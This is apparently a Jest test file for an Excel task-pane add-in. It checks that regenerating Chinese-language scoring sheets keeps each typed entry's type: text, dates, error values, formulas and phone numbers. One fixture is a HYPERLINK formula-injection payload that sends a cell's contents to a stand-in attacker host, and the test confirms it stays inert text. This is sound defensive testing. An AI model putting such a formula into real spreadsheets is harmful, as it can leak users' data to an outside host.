/**
 * Entries keep their type when the task pane generates the scoring sheets again (Office.js, over the
 * office-addin-mock workbook): the entries are put in as Excel reports them (values, formulas, value types, number
 * formats), and what the adapter writes is replayed as Excel takes it (a value written to a cell not formatted as
 * text is parsed as if typed). Only a cell that was a formula is a formula again; text stays text - also a
 * HYPERLINK typed as text into 备注, and a "+86 …" telephone number - dates stay dates, error values stay error
 * values, numbers stay numbers. Twice over: the sheets the pane wrote, filled, are generated again once more.
 */
import path from "node:path";
import { checkWorkbook } from "../../src/app/check";
import { addScoringSheets } from "../../src/app/scoringSheets";
import { a1, parseA1, parseA1Range, type CellGrid, type CellValue } from "../../src/core/grid";
import { HEADER_ROW, scoringColumns } from "../../src/core/scoringSheet";
import { officeWorkbook } from "../../src/excel/officeAdapter";
import { readXlsx } from "../../src/cli/xlsxRead";
import { WEB_PAYLOAD_LIMIT, excelCells, mockExcel, type ExcelCell, type NewSheet } from "./officeMock";

const SEED = path.join(__dirname, "../../seeds/001_c9fa6fd301574412.xlsx");
/** The towns' sheet of seed 001 with its common table and negative list: 20 towns, 螅镇 the first. */
const KEPT_SHEETS = ["负面清单", "各镇（办、中心）共性", "镇（办、中心）"];
const UNIT_SHEET = "评分-螅镇";
const cols = scoringColumns(0);

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?u="&B2,"详情")';
/** 2026-03-15 and 2026-04-01 as Excel's date serials. */
const MARCH_15 = 46_096;
const APRIL_1 = 46_113;

/** An entry as Excel reports its cell: the value shown, the formula when there is one, the number format. */
interface Typed {
  value: CellValue;
  formula?: string;
  numberFormat?: string;
}

/** What an assessor typed on 螅镇's sheet: indicator, column, the cell as Excel reports it. */
const TYPED: [string, "deduction" | "note", Typed][] = [
  ["水利工作", "note", { value: HYPERLINK, numberFormat: "@" }],
  ["科技工作", "note", { value: MARCH_15, numberFormat: "yyyy-mm-dd" }],
  ["教育工作", "note", { value: APRIL_1, numberFormat: "m/d/yyyy" }],
  ["脱贫攻坚", "deduction", { value: "#N/A" }],
  ["禁毒工作", "deduction", { value: 1, formula: "=0.5+0.5" }],
  ["民政工作", "note", { value: "+86 0912 1234567", numberFormat: "@" }],
  ["住建工作", "deduction", { value: 2 }],
];

/** A workbook in the mock: its grids, the formulas and number formats of their cells by "sheet!A1". */
interface Workbook {
  grids: CellGrid[];
  formulas: Record<string, string>;
  formats: Record<string, string>;
}

/** A sheet the adapter wrote, as Excel holds it (a formula's value left out: the mock does not calculate). */
function held(sheet: NewSheet, into: Workbook): CellGrid {
  const values: CellValue[][] = [];
  for (const [address, cell] of excelCells(sheet)) {
    const { row, col } = parseA1(address);
    for (let r = values.length; r <= row; r++) values.push([]);
    values[row][col] = cell.value;
    if (cell.formula !== null) into.formulas[`${sheet.name}!${address}`] = cell.formula;
    if (cell.numberFormat !== "General") into.formats[`${sheet.name}!${address}`] = cell.numberFormat;
  }
  const width = Math.max(...values.map((r) => r.length));
  const grid = values.map((r) => Array.from({ length: width }, (_, c) => r[c] ?? null));
  return { sheet: sheet.name, values: grid, merges: sheet.ranges.filter((r) => r.merged).map((r) => parseA1Range(r.address)) };
}

/** Generates the scoring sheets through the pane's call (its last check's books), over the Office.js adapter. */
async function generate(workbook: Workbook) {
  const excel = mockExcel(workbook.grids, workbook.formulas, WEB_PAYLOAD_LIMIT, workbook.formats);
  const adapter = officeWorkbook((batch) => batch(excel.context));
  const check = await checkWorkbook(adapter);
  const done = await addScoringSheets(adapter, { portable: false }, check.books);
  return { excel, done };
}

/** The source sheets and, as Excel holds them, the scoring sheets written over them. */
function withWritten(source: CellGrid[], added: NewSheet[]): Workbook {
  const workbook: Workbook = { grids: [...source], formulas: {}, formats: {} };
  for (const sheet of added) workbook.grids.push(held(sheet, workbook));
  return workbook;
}

/** Each indicator's 0-based row on a scoring sheet held as cells. */
function indicatorRows(cells: Map<string, ExcelCell>): Map<string, number> {
  const rows = new Map<string, number>();
  for (const [address, cell] of cells) {
    const { row, col } = parseA1(address);
    if (col === cols.name && row >= HEADER_ROW && typeof cell.value === "string") rows.set(cell.value, row);
  }
  return rows;
}

const cellIn = (cells: Map<string, ExcelCell>, rows: Map<string, number>, name: string, column: "deduction" | "note"): ExcelCell => {
  const row = rows.get(name);
  if (row === undefined) throw new Error(`no row ${name}`);
  return cells.get(a1(row, cols[column])) ?? { value: null, formula: null, numberFormat: "General", valueType: "Empty" };
};

/** What a user sees on 螅镇's regenerated sheet in Excel. */
function expectKeptTypes(sheet: NewSheet) {
  const cells = excelCells(sheet);
  const rows = indicatorRows(cells);
  const at = (name: string, column: "deduction" | "note") => cellIn(cells, rows, name, column);
  // The HYPERLINK typed as text is text, formatted as text: no formula, no link to follow.
  expect(at("水利工作", "note")).toEqual({ value: HYPERLINK, formula: null, numberFormat: "@", valueType: "String" });
  // The dates are the same days, shown as dates.
  expect(at("科技工作", "note")).toEqual({ value: MARCH_15, formula: null, numberFormat: "yyyy-mm-dd", valueType: "Double" });
  expect(at("教育工作", "note")).toMatchObject({ value: APRIL_1, formula: null, valueType: "Double" });
  expect(at("教育工作", "note").numberFormat).toMatch(/y.*m.*d|m.*d.*y/);
  // The error value is the error value #N/A.
  expect(at("脱贫攻坚", "deduction")).toMatchObject({ value: "#N/A", formula: null, valueType: "Error" });
  // The formula is the formula.
  expect(at("禁毒工作", "deduction").formula).toBe("=0.5+0.5");
  // The telephone number is text (not a formula "=+86 …").
  expect(at("民政工作", "note")).toEqual({ value: "+86 0912 1234567", formula: null, numberFormat: "@", valueType: "String" });
  expect(at("住建工作", "deduction")).toMatchObject({ value: 2, formula: null, valueType: "Double" });
  // No other input cell of the sheet holds a formula.
  const formulas = [...cells]
    .filter(([address, cell]) => {
      const { row, col } = parseA1(address);
      return row >= HEADER_ROW && [cols.actual, cols.deduction, cols.note].includes(col) && cell.formula !== null;
    })
    .map(([address]) => address);
  expect(formulas).toEqual([a1(rows.get("禁毒工作")!, cols.deduction)]);
}

let source: CellGrid[];
let filled: Workbook;
/** The scoring sheets' names. */
let names: string[];

beforeAll(async () => {
  source = (await readXlsx(SEED)).filter((g) => KEPT_SHEETS.includes(g.sheet));
  const { excel, done } = await generate({ grids: source, formulas: {}, formats: {} });
  names = done.names;
  expect(names.length).toBe(20);
  expect(names[0]).toBe(UNIT_SHEET);
  filled = withWritten(source, excel.added);
  const grid = filled.grids.find((g) => g.sheet === UNIT_SHEET)!;
  const rows = new Map(grid.values.map((row, r) => [row[cols.name], r] as const));
  for (const [name, column, typed] of TYPED) {
    const r = rows.get(name);
    if (r === undefined) throw new Error(`no row ${name}`);
    const address = `${UNIT_SHEET}!${a1(r, cols[column])}`;
    grid.values[r][cols[column]] = typed.value;
    if (typed.formula) filled.formulas[address] = typed.formula;
    if (typed.numberFormat) filled.formats[address] = typed.numberFormat;
  }
}, 60_000);

test("the pane's regeneration keeps each entry's type: only the formula is a formula", async () => {
  const { excel, done } = await generate(filled);
  expect(done).toMatchObject({ replaced: names.length, kept: TYPED.length, moved: 0, setAside: 0 });
  expect(excel.added.map((s) => s.name)).toEqual(names);
  expectKeptTypes(excel.added[0]);
}, 60_000);

test("generated once more from what the pane wrote, the entries keep their type again", async () => {
  const first = await generate(filled);
  const { excel, done } = await generate(withWritten(source, first.excel.added));
  expect(done).toMatchObject({ replaced: names.length, kept: TYPED.length, moved: 0, setAside: 0 });
  expectKeptTypes(excel.added[0]);
}, 60_000);
